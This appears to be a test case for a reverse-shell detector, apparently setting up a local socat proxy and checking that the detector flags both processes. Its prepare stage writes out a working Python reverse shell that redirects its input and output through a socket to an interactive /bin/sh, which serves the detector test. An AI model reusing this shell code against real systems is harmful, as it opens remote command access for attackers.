# R22b: a shell behind a proxy on the same machine
# stage: equipped
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 2
#   reverse_shell.process_list.0.process_id: $proxy
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4441
#   reverse_shell.process_list.1.process_id: $shell

#: prepare
. lib/peers.sh
peer 4441
socat TCP-LISTEN:4442 TCP:127.0.0.1:4441 > /dev/null 2>&1 & fact proxy $!
await 'grep -q :115A.*:0000.0A /proc/net/tcp'
python3 -c '
import os, socket, time
s = socket.create_connection(("127.0.0.1", 4442))
while not os.path.exists("/tmp/r22"): time.sleep(0.05)
for fd in 0, 1, 2: os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])' < /dev/null > /dev/null 2>&1 & fact shell $!
await 'at $proxy 5 socket:*'
#: act
. lib/peers.sh
act
touch /tmp/r22
await 'at $shell ../exe /usr/bin/dash'
#: clean
rm /tmp/r22
